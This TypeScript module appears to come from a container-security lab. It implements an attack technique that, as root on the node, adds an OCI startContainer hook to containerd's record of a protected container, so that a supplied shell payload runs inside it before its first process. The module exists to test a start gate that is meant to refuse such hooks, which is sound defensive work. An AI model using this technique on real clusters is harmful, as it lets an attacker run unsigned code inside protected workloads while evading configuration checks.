/**
 * Attack (T1562.001 Impair Defenses: Disable or Modify Tools, T1609
 * Container Administration Command, T1059.004 Unix Shell): root on the
 * node, who holds containerd's socket, adds an OCI hook to containerd's
 * record of a protected workload container between CreateContainer and
 * StartContainer (Containers.Update). A `startContainer` hook is a program
 * runc runs inside the container, after its root and mounts are set up and
 * before its first process: here the image's own `/bin/sh` with the
 * attack's payload as its script. The record's command, mounts, namespace,
 * layers and config are all untouched, so every check of those passes, and
 * the attacker's script runs in the protected container, from no signed
 * config, before anything of the container's own.
 *
 * The effect is the file the payload writes (the attack's `path`), read
 * from the node through /proc/<pid>/root of the container's first process:
 * it exists only if the hook ran inside the container. A hook that fails
 * makes runc kill the container before its first process, so the payload
 * must write where the container can (the image has no /tmp; /dev/shm is
 * there on every profile).
 *
 * What must catch it: the start gate, which refuses a protected task whose
 * spec asks runc for any hook (lab/gates/bundle-spec.ts `hooksIn`).
 */
import { LabError } from '../../errors.ts';
import type { Technique } from '../technique.ts';
import { requirePath, requirePayload, type AttackErrorCode } from './common.ts';
import { startWithRecordEdited } from './containerd-record-update.ts';
import { readInContainer } from './start.ts';

/** The hook's program: the shell of the signed image itself, so nothing is brought in. */
const HOOK_SHELL = '/bin/sh';

export const containerdRecordHook: Technique = {
  name: 'containerd-record-hook',
  async run({ node, attack, workload, pods }) {
    const path = requirePath(attack);
    const payload = requirePayload(attack);
    const hook = { path: HOOK_SHELL, args: ['sh', '-c', payload] };
    const { start, evidence } = await startWithRecordEdited({ node, workload, pods }, (spec) => {
      const hooksBefore = spec.hooks;
      spec.hooks = { ...spec.hooks, startContainer: [...(spec.hooks?.startContainer ?? []), hook] };
      return { hooksBefore, startContainer: hook };
    });
    if (!start.started) {
      return { effect: false, reason: `the container did not start (${start.stage}) after a startContainer hook was added to containerd's record of it: ${start.reason}`, evidence: { ...evidence, refusal: start.reason } };
    }
    const written = await readInContainer(node, start.pod, path);
    evidence.hookOutput = { path, found: written.ok, content: written.ok ? written.content.toString('utf8').slice(0, 200) : undefined, error: written.ok ? undefined : written.stderr.trim() };
    if (written.ok) {
      return { effect: true, reason: `${workload.spec.namespace}/${workload.metadata.name} started, and the hook added to containerd's record ran the attacker's script inside it before its first process (it wrote ${path})`, evidence };
    }
    throw new LabError<AttackErrorCode>('ATTACK_FAILED', `${workload.spec.namespace}/${workload.metadata.name} started with the hook in its record, but ${path} is not in the container (${written.stderr.trim()}): the hook did not run, or the payload did not write ${path}`);
  },
};
